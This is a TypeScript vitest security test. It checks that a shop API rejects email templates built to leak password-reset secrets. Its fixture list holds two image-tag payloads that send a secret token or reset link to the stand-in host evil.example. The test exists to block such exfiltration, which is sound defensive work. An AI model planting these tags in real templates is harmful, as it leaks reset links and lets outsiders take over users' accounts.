import { expect, test } from 'vitest';
import { ApiClient, expectStatus } from '../../people/api-client.ts';
import type { JourneyShop } from '../../shop-kit/journey-shop.ts';
import { signedIn, type TwoShops } from '../two-shops.ts';

interface Rights {
  readonly shop: JourneyShop;
  readonly shops: TwoShops;
}

const words = {
  subject: 'Choose a password',
  text: 'Choose it here: {{ link }}',
  html: '<p>Choose it <a href="{{ link }}">here</a>.</p>',
  sms: null,
};
const listening = [
  '<img src="https://evil.example/p.gif?t={{ secret.token }}">',
  '<img src="https://evil.example/?{{ link }}">',
];

/** Whoever may write the words of the shop's mails takes nobody's account by them. */
export function secretLinks(given: () => Rights): void {
  test('who may write templates alone sends the secret of a link to nobody else', async () => {
    const { shop } = given();
    const email = 'asked-for@kontor.example';
    await signedIn(shop, email, '*');
    const permissions = ['notifications:read', 'notifications:write'];
    const asked = { name: 'of who writes words', permissions, channels: '*' };
    const made = await shop.staff.post<{ key: string }>('/v1/admin/api-keys', asked);
    const writer = new ApiClient(shop.url, expectStatus(made, 201).key);
    const template = '/v1/admin/templates/reset_password/en';
    const put = (html: string) =>
      writer.send<{ code: string }>('PUT', template, { body: { ...words, html } });
    expectStatus(await put(words.html), 200);
    for (const spy of listening) {
      const { status, body } = await put(words.html + spy);
      expect([status, body.code]).toEqual([422, 'template_invalid']);
    }
    const stranger = new ApiClient(shop.url);
    expectStatus(await stranger.post('/v1/auth/password-reset', { email }), 202);
    // The first is the invitation.
    const mails = JSON.stringify(await shop.book.mailsTo(email, 2));
    expect(mails).toMatch(/reset-password\/en\/[\w.~-]{20}/);
    expect(mails).not.toContain('evil.example');
    expectStatus(await writer.send('DELETE', template, {}), 204);
  });
}
